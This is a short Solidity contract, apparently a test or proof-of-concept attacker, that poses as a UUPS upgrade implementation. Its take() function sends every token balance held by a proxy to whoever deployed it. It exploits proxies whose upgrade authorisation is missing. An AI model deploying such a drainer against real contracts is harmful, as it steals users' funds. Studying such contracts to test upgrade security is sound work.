// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC1822Proxiable} from "@openzeppelin/contracts/interfaces/draft-IERC1822.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";

/// @title The attack's edition: it pays everything to the one who deployed it.
contract PetrelImpostor is IERC1822Proxiable {
    address private immutable _thief = msg.sender;

    function proxiableUUID() external pure returns (bytes32) {
        return ERC1967Utils.IMPLEMENTATION_SLOT;
    }

    function take(IERC20 coin) external {
        coin.transfer(_thief, coin.balanceOf(address(this)));
    }
}
